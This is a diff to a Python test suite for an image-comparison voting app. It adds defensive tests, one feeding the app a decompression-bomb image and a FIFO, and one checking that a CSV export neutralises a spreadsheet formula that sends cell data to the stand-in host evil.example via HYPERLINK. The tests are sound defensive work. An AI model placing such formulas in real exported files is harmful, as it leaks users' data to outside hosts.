@@ -26,7 +26,7 @@ from app.scored import Scored, ScoredImage, ScoredPrompt
 from app.voting import ANY, Polls, Tally, draw, pairings, tallies
 from bilora_diffusion.errors import UserError
 from eval.compare import win_rate_interval
-from tests.app.scored_images import scores_of, write
+from tests.app.scored_images import scores_of, write, write_bomb
 
 LORA, BILORA = Contestant("LoRA", "aa"), Contestant("Bi-LoRA", "bb")
 NOBODY = 65534
@@ -99,16 +99,37 @@ def test_each_side_shows_its_adapters_image_and_nothing_else(tmp_path: Path) -> 
     polls = Polls(Catalog(tmp_path), random.Random(0))
     booth = polls.open("scores", ANY, "me")
     for count in range(4):
-        assert polls.done(booth, "me") == (count, 4)
+        assert polls.done(booth) == (count, 4)
         ballot = booth.ballot
         for side, data in zip((ballot.left, ballot.right), polls.images(ballot), strict=True):
             with Image.open(io.BytesIO(data)) as shown:
                 assert shown.getpixel((0, 0)) == ImageColor.getrgb(colors[side.label])
                 assert not shown.info
                 assert max(shown.size) > 64, "enlarged"
-        booth = polls.cast(booth, "left", "me")
+        booth = polls.cast(booth, "left")
+    assert {vote.session for vote in polls.votes.read()} == {"me"}
     (tally,), voters = polls.result("scores", ANY)
     assert (tally.wins + tally.losses, voters) == (4, 1)
+
+
+def test_pictures_that_cant_be_shown_do_not_end_the_vote_on_the_others(tmp_path: Path) -> None:
+    scores = result(prompts=2)
+    for (label, text, seed), image in scores.images.items():
+        path = tmp_path / "scores" / image.file
+        path.parent.mkdir(parents=True, exist_ok=True)
+        if label == "LoRA" and text == "icon 0":
+            if seed:
+                os.mkfifo(path)
+            else:
+                write_bomb(path)
+        else:
+            Image.new("RGB", (8, 8)).save(path)
+    write(scores, tmp_path / "scores")
+    polls = Polls(Catalog(tmp_path), random.Random(0))
+    booth = polls.open("scores", ANY, "me")
+    for _ in range(4):
+        assert booth.ballot.prompt == "icon 1"
+        booth = polls.cast(booth, "tie")
 
 
 def test_a_vote_counts_the_same_from_both_sides_and_apart_for_weights_trained_again() -> None:
@@ -220,3 +241,13 @@ def test_the_csv_file() -> None:
     about = ["2026-01-02T03:04:05+00:00", "scores"]
     assert first == [*about, "icon", "0", "LoRA", "Bi-LoRA", "tie", "", "me"]
     assert second == [*about, odd.prompt, "0", "LoRA", "Bi-LoRA", "right", "Bi-LoRA", "me"]
+
+
+@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r"])
+def test_no_cell_of_the_csv_file_is_a_formula(begin: str) -> None:
+    words = f'{begin}HYPERLINK("http://evil.example/?"&A1,"x")'
+    side = Contestant(words, "aa")
+    text = io.StringIO(newline="")
+    write_csv([Vote(words, words, -1, side, side, "left", words, words)], text)
+    (_, row) = csv.reader(io.StringIO(text.getvalue(), newline=""))
+    assert row == [f"'{words}"] * 3 + ["-1", f"'{words}", f"'{words}", "left"] + [f"'{words}"] * 2
